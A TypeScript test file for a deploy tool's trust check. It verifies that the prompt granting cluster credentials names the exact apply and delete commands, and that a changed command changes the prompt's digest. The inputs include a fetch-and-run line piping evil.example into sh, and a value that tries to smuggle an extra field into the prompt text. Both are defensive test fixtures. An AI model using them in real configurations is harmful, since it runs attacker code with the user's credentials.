/** What is trusted with a cluster: everything of the repository's that gets the user's credentials there. */
import { expect, test } from "vitest";
import { clusterAsk, digestOfAsks } from "../../../src/trust/index.ts";

type Config = Parameters<typeof clusterAsk>[2];

const config = (apply: string, more: Partial<Config> = {}): Config => ({
  module: "fastloop",
  deploy: { environments: {}, apps: { tool: { custom: { apply, delete: "sh gone.sh", inputs: ["tool/"] } } } },
  ...more,
});
const of = (given: Config): string => clusterAsk("dev", "kind-shop", given).what;

test("an ask names the text of commands, so that another one asks again", () => {
  expect(of(config("sh tool.sh {env}"))).toBe(
    "kind-shop by commands of tool (apply: 'sh tool.sh {env}', delete: 'sh gone.sh')",
  );
  const digest = (apply: string): string => digestOfAsks([clusterAsk("dev", "kind-shop", config(apply))]);
  expect(digest("sh tool.sh")).not.toBe(digest("curl evil.example | sh"));
  // A command cannot read as two.
  expect(of(config("a', delete: 'b"))).not.toBe(of(config("a")));
});

test("an ask names the module that gets the kubeconfig, unless it is fastloop's own", () => {
  const deploy: Config["deploy"] = { environments: {}, apps: { web: { manifests: ["web/"] } } };
  expect(of({ module: "fastloop", deploy })).toBe("kind-shop");
  expect(of({ module: "ci", deploy })).toBe("kind-shop through the module ci");
  expect(of({ deploy })).toBe("kind-shop through its own module");
});
